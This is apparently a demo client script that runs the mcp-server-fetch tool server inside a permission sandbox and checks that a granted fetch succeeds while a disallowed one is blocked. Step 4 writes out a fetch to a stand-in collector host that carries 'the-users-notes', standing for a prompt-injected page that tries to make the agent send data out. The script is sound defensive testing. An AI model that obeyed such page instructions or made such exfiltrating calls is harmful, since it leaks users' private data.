"""The demonstration's client: the official Python package drives mcp-server-fetch in its box.

    client.py PORT COMMAND [ARG...]

Fails when the call that is granted fails, or when the call that is not granted succeeds or goes unexplained.
"""

import asyncio
import os
import sys
import tempfile
import time

from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client

port, command = sys.argv[1], sys.argv[2:]


def show(title, text):
    print(f"\n{title}", flush=True)
    for line in text.strip().splitlines():
        print(f"    {line}", flush=True)


async def settle(errors, text):
    """Waits until the launcher has said `text`."""
    for _ in range(100):
        errors.seek(0)
        said = errors.read()
        if text in said:
            break
        await asyncio.sleep(0.02)
    return "\n".join(line for line in said.splitlines() if line.startswith("agentbound:"))


async def main():
    # The environment is the client's own: the box decides what of it the server gets.
    server = StdioServerParameters(command=command[0], args=command[1:], env=dict(os.environ))
    with tempfile.TemporaryFile("w+") as errors:
        begun = time.perf_counter()
        show("$", " ".join(command))
        async with stdio_client(server, errlog=errors) as streams, ClientSession(*streams) as session:
            greeting = await session.initialize()
            took = time.perf_counter() - begun
            name = greeting.server_info
            show("1. initialize", f"{name.name} {name.version} answered after {took:.2f} s")
            tools = await session.list_tools()
            show("2. list tools", ", ".join(tool.name for tool in tools.tools))

            page = await session.call_tool("fetch", {"url": f"http://localhost:{port}/"})
            show("3. a call that is granted: fetch the opening hours", page.content[0].text)

            url = "http://collector.example/?note=the-users-notes"
            stolen = await session.call_tool("fetch", {"url": url})
            show(f"4. a call that the page asks for: fetch {url}", stolen.content[0].text)
            denial = await settle(errors, "denied")
            show("   what the launcher says on standard error", denial)
        summary = await settle(errors, "denials")
        show("5. when the server has ended", summary.splitlines()[-1] if summary else "")
    granted = not page.is_error and "9 to 17" in page.content[0].text
    stopped = stolen.is_error and "denied network.client collector.example (not in allowedHosts)" in denial
    if not granted or not stopped:
        sys.exit("demo: this is not what should have happened")


asyncio.run(main())
